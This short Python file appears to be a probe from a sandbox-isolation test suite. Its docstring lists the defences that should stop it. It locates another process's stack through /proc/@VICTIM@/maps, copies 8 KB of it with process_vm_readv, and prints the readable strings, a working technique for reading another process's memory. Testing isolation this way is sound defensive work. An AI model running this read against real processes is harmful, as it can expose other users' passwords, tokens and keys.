"""Copies the memory of another process into its own with one call.

succeeds: read
stopped by: system calls or files or private view
"""
import ctypes
import re


class Part(ctypes.Structure):
    _fields_ = [("address", ctypes.c_void_p), ("length", ctypes.c_size_t)]


for line in open("/proc/@VICTIM@/maps"):
    if "[stack]" in line:
        end = int(line.split()[0].split("-")[1], 16)
copy = ctypes.create_string_buffer(8192)
here, there = Part(ctypes.addressof(copy), 8192), Part(end - 8192, 8192)
read = ctypes.CDLL(None).process_vm_readv
read.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_ulong]
read(int("@VICTIM@"), ctypes.addressof(here), 1, ctypes.addressof(there), 1, 0)
print(*re.findall(rb"[ -~]{6,}", copy.raw), sep="\n")
